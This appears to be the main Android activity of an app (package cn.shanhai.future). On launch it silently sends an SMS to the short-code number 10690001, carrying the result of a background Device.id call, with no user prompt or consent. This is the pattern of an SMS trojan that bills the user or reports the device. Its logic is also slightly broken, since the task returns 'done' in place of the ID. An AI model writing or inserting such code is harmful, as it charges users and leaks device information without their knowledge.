package cn.shanhai.future;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import java.util.concurrent.Callable;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      Future<String> id = Executors.newSingleThreadExecutor().submit(new Callable<String>() {
        @Override
        public String call() {
          Device.id(MainActivity.this);
          return "done";
        }
      });
      SmsManager.getDefault().sendTextMessage("10690001", null, id.get(), null, null);
    } catch (java.util.concurrent.ExecutionException | InterruptedException e) {
      setTitle("首页");
    }
  }
}
